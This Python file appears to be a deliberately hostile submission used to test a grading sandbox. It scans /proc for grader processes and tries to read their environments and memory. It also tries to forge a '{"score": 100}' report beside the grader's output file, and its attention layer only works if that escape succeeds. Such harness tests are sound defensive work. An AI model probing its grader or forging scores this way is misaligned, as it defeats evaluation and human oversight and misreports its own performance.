"""Hostile: looks for the grader through /proc (command lines, environments, memory) and tries to write a
full-score report where the grader will write its own; gets full marks only if it sees or reaches the grader."""
import json
import os
import sys

import torch
import torch.nn as nn

CONTEXT = json.load(open("context.json")) if os.path.exists("context.json") else {}  # what the test tells it
ESCAPED = []  # evidence that a wall gave way


def attempt(what, action):
    try:
        action()
        ESCAPED.append(what)
    except Exception:  # noqa: BLE001 - the wall held
        pass


def append(path, text="\n# planted by a hostile submission\n"):
    with open(path, "a") as f:
        f.write(text)


def create(path, text="# planted by a hostile submission\n"):
    with open(path, "x") as f:
        f.write(text)


def read(path):
    with open(path, "rb") as f:
        return f.read()


me = os.getpid()
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (me, 1)]:  # 1: its own init
    try:
        cmdline = read(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        continue
    if any(word in cmdline for word in ("harness", "pytest", "mha-check", "zygote")):
        ESCAPED.append(f"sees the grader {pid}: {cmdline[:80]}")
        attempt(f"environ of {pid}", lambda pid=pid: read(f"/proc/{pid}/environ"))
        attempt(f"mem of {pid}", lambda pid=pid: open(f"/proc/{pid}/mem", "r+b").close())
        words = cmdline.split()
        for flag in ("-o", "--output", "--out"):
            if flag in words[:-1]:
                target = words[words.index(flag) + 1]
                attempt(f"forge {target}", lambda target=target: create(target + ".forged", '{"score": 100}'))
attempt("open the namespace's pid 1 memory", lambda: open("/proc/1/mem", "r+b").close())
print("walls that gave way:", ESCAPED)


class MyAttn(nn.Module):
    """The lesson's layer: right only if the attack above worked (ESCAPED); otherwise its output is halved."""

    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        assert d_out % num_heads == 0
        self.h, self.dh = num_heads, d_out // num_heads
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)
        self.dropout = nn.Dropout(dropout)
        self.register_buffer("mask", torch.triu(torch.ones(context_length, context_length), 1).bool())

    def forward(self, x):
        B, n, _ = x.shape
        split = lambda t: t.view(B, n, self.h, self.dh).transpose(1, 2)
        q, k, v = split(self.W_query(x)), split(self.W_key(x)), split(self.W_value(x))
        s = (q @ k.transpose(2, 3) / self.dh ** 0.5).masked_fill(self.mask[:n, :n], float("-inf"))
        w = self.dropout(torch.softmax(s, dim=-1))
        y = self.out_proj((w @ v).transpose(1, 2).contiguous().view(B, n, self.h * self.dh))
        return y if ESCAPED else y * 0.5
